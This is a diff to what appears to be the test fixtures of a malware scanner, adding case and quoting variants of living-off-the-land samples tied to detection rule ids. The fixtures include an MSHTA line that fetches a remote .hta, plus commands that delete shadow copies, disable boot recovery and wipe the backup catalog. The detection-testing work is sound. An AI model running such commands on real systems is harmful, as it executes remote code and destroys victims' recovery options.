@@ -254,6 +254,9 @@ const SAMPLES: Record<string, { ids: string[]; data: string | Buffer }> = {
       "bcdedit /set {default} recoveryenabled no & wbadmin delete catalog -quiet\r\n",
   },
   "lolbin/locker.exe": { ids: ["ring3.lolbin.inhibit_recovery"], data: pe(wide("vssadmin.exe Delete Shadows /All /Quiet")) },
+  // Casing and quoting variants: cmd.exe and the programs read switches in any case.
+  "lolbin/UPDATE.CMD": { ids: ["ring3.lolbin.mshta_rundll32_script"], data: '"C:\\Windows\\System32\\MSHTA.EXE" "https://203.0.113.7/a.hta"\r\n' },
+  "lolbin/cleanup.cmd": { ids: ["ring3.lolbin.inhibit_recovery"], data: "VSSADMIN.EXE Delete Shadows /For=C: /All\r\n" },
   "lolbin/shadows.ps1": { ids: ["ring3.lolbin.inhibit_recovery"], data: "Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }\r\n" },
 
   // JavaScript card skimmers.
